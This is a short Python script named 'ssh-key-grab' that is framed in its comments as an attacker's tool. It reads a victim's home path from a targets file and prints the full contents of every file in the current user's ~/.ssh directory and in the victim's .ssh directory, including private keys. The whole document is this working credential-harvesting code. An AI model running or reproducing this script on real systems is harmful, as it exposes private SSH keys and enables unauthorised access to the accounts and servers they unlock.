# ssh-key-grab (Python): print every file in ~/.ssh, looking both at $HOME
# and at the victim's real home path (an attacker who knows the layout tries
# both).
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

for d in (os.path.expanduser("~/.ssh"), os.path.join(T["T_HOME"], ".ssh")):
    try:
        names = sorted(os.listdir(d))
    except OSError as e:
        print(e)
        continue
    for name in names:
        path = os.path.join(d, name)
        if os.path.isfile(path):
            with open(path, errors="replace") as f:
                print(f"==> {path}\n{f.read()}")
